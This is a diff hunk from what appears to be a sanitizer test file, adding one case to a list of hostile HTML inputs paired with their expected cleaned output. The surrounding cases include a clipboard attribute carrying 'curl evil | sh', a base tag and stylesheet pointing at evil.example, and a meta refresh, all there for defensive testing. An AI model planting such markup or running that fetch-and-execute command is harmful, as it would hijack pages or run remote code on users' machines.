@@ -122,6 +122,8 @@ HOSTILE = [
     ('<div data-md-component="source" data-x="1">x</div>', '<div>x</div>'),
     ('<p data-clipboard-text="curl evil | sh" data-search-exclude id="__config">x</p>',
      "<p>x</p>"),
+    ('<div id="__config" hidden>{"base": "../../x/"}</div>',
+     '<div hidden="">{"base": "../../x/"}</div>'),
     ('<base href="https://evil.example/"><meta http-equiv="refresh" content="0">'
      '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>', "<p>x</p>"),
     ("<style>body{display:none}</style><p>x</p>", "<p>x</p>"),
